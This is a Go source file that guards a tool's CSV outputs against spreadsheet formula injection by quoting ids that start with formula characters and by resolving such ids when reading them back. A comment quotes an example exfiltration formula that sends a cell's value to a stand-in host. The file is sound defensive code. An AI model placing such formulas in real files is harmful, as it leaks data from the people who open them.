package fileio

import (
	"fmt"
	"strconv"
	"strings"
)

// Spreadsheet formula injection (CWE-1236): a spreadsheet opening a CSV
// runs a cell that begins with '=', '+', '-' or '@' (or a tab or carriage
// return before one) as a formula, so an item id such as
// =HYPERLINK("http://x/?"&A1) in a user's pool would run in the lab's
// Excel when qvs lists it. The CSV outputs people open (the tables of
// score, select, as suggest and bayesopt suggest) pass ids through
// SpreadsheetSafe unless --raw-ids is given; every qvs reader of ids takes
// them back with LookupID. Files qvs writes for itself (records,
// summary.csv, mds.csv) keep ids verbatim, so resumes compare them exactly.

// formulaStart reports whether a cell beginning with c may be run as a
// formula (or, for a quote mark, would lose that quote in a spreadsheet).
func formulaStart(c byte) bool {
	switch c {
	case '=', '+', '-', '@', '\t', '\r', '\'':
		return true
	}
	return false
}

// SpreadsheetSafe returns id with a leading ' when a spreadsheet would run
// it as a formula (it starts with '=', '+', '-', '@', a tab or a carriage
// return) or would drop its leading ' (it starts with one), so the
// spreadsheet shows the id as text. A number ("-5", "+1.5e3") is left as
// it is: it is no formula, and quoting it would turn it into text. The
// mapping is one to one: unquoteSpreadsheet(SpreadsheetSafe(id)) == id.
func SpreadsheetSafe(id string) string {
	if id == "" || !formulaStart(id[0]) {
		return id
	}
	if _, err := strconv.ParseFloat(id, 64); err == nil && id[0] != '\'' {
		return id
	}
	return "'" + id
}

// unquoteSpreadsheet undoes SpreadsheetSafe: s without its leading ' when
// SpreadsheetSafe would have added it; s unchanged otherwise.
func unquoteSpreadsheet(s string) string {
	if len(s) >= 2 && s[0] == '\'' && SpreadsheetSafe(s[1:]) == s {
		return s[1:]
	}
	return s
}

// LookupID finds the item a cell of an input file names: the cell's exact
// text first (ids are kept as written, spaces included), then the text as
// SpreadsheetSafe wrote it back ("'=x" names "=x"), then without
// surrounding spaces (hand-written "m10 , 1"). It returns the item and the
// id it matched. A cell that names one item as written and another as
// SpreadsheetSafe prints ids (a pool with both "=x" and "'=x": qvs prints
// the first as "'=x") is ambiguous: ok is false and ambiguous says so,
// naming both ids (an index column beside the id settles it; IDMatches).
func LookupID(index map[string]int, cell string) (i int, id string, ok bool, ambiguous error) {
	i = -1
	for _, k := range idReadings(cell) {
		j, found := index[k]
		switch {
		case !found:
		case i < 0:
			i, id = j, k
		case j != i:
			return -1, "", false, fmt.Errorf("id %s is ambiguous: it is the id %s as written and the id %s as qvs writes ids for spreadsheets (a leading ' added); give an index column beside the id to say which", Excerpt(cell), Excerpt(id), Excerpt(k))
		}
	}
	return i, id, i >= 0, nil
}

// idReadings are the ids a cell may name, in LookupID's order.
func idReadings(cell string) []string {
	t := strings.TrimSpace(cell)
	return []string{cell, unquoteSpreadsheet(cell), t, unquoteSpreadsheet(t)}
}

// IDMatches tells whether cell names the item whose id is id, read as
// LookupID reads it (as written, as SpreadsheetSafe wrote it, without
// surrounding spaces): how an id column beside an index column is checked.
func IDMatches(cell, id string) bool {
	for _, k := range idReadings(cell) {
		if k == id {
			return true
		}
	}
	return false
}

// CheckUniqueIDs reports an empty or repeated id: ids name the items in
// the output (and in input files such as --observed), so each must name
// one item. src names where the ids come from; rows count the items from 1.
func CheckUniqueIDs(src string, ids []string) error {
	first := make(map[string]int, len(ids))
	for k, id := range ids {
		if id == "" {
			return fmt.Errorf("%s: id %d is empty", src, k+1)
		}
		if j, dup := first[id]; dup {
			return fmt.Errorf("%s: id %q is given for rows %d and %d; ids must be unique", src, id, j+1, k+1)
		}
		first[id] = k
	}
	return nil
}
